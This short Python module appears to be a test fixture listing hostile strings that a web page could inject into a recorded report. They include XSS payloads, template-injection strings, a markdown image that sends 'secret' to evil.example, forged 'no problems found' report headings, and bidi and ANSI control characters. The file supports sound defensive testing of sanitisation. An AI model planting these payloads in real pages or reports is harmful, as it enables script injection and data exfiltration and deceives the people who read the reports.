"""What a hostile page writes into a recording, to reach the reader of a report."""

from __future__ import annotations

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% include 'x' %} {# c #}",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1)) [a]: https://evil.example",
    "<https://evil.example> https://evil.example/x www.evil.example",
    "# Report: no problems found",
    "---",
    "1. nothing happened",
    "- [x] done",
    "> quoted",
    "| a | b |",
    "```\ncode\n```",
    "**bold** _it_ ~~gone~~ `code` $x$",
    "line one\n\n## Patterns\n\nNone.",
    "\u202egnp.exe\u202c \u200b\ufeff \x1b[31mred\x07",
    "a" * 1_900,
)
